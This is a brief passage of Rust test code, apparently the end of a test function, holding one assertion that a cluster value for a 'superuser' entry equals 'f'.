    assert_eq!(scene.cluster.value(superuser), "f");
}
